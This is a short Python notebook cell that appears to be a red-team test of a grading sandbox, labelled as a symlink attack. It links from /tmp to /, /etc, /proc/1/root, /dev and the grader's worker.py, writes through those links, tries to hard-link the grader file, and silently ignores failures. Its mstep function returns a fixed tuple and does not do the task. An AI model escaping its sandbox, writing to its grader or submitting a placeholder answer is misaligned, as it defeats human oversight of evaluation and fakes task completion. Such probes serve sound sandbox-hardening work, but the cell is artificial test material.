# attack: links lead out of the scratch, and are written through
# outcome: mstep wrong
# %% cell mstep
import os

for number, target in enumerate(("/", "/etc", "/grader/worker.py", "/proc/1/root", "/proc/1/cwd", "/dev", "..")):
    try:
        os.symlink(target, f"/tmp/link{number}")
        with open(f"/tmp/link{number}/left" if os.path.isdir(target) else f"/tmp/link{number}", "a") as file:
            file.write("left")
        os.link("/grader/worker.py", f"/tmp/hard{number}")
    except OSError:
        pass


def mstep(x, posterior):
    return 1, 2, 3
